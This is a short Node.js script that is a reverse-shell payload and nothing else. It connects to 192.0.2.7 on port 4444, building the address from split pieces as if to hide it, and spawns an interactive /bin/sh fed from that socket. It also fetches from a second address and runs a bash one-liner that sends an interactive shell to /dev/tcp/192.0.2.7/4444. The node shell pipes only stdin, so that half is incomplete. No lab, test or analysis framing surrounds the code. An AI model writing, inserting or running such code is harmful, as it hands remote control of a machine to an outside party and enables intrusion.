const net = require('net');
const cp = require('child_process');

const socket = net.connect(4444, [192, 0, 2, 7].join('.'));
const shell = cp.spawn('/bin/sh', ['-i']);
socket.pipe(shell.stdin);
fetch('http://192.0.2.' + 9 + '/k');
cp.exec('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1');
